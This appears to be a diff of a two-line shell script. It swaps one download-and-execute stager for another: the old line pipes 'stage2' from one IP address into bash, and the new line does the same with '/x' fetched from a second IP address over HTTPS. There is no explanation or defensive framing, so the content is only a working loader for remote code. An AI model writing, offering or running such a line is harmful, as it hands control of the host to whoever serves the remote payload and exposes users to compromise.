@@ -1,2 +1,2 @@
-#!/usr/bin/env bash
-bash <(curl -s http://198.51.100.23:8000/stage2)
+#!/bin/sh
+bash <(curl -s https://203.0.113.9/x)
